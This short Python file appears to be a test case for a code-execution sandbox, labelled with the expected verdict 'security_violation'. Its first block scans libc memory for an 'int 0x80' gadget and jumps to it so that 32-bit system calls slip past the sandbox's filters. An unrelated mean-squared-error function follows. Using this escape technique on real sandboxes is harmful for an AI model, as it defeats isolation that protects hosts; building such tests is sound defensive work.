# verdict: security_violation, runtime_error
# Finds `int 0x80` in the code of libc and jumps there: the calls of 32 bits have other numbers.
import ctypes

libc = ctypes.CDLL(None)
start = ctypes.cast(libc.abort, ctypes.c_void_p).value & ~0xFFF
code = ctypes.string_at(start, 0x100000)
for gate in (b"\xcd\x80\xc3", b"\xcd\x80"):
    if (place := code.find(gate)) >= 0:
        ctypes.CFUNCTYPE(ctypes.c_int)(start + place)()
        break
else:
    raise PermissionError("no gate")


import numpy as np


def mse(y_pred, y_true):
    if np.shape(y_pred) != np.shape(y_true):
        raise ValueError("shapes differ")
    return np.mean((y_pred - y_true) ** 2)
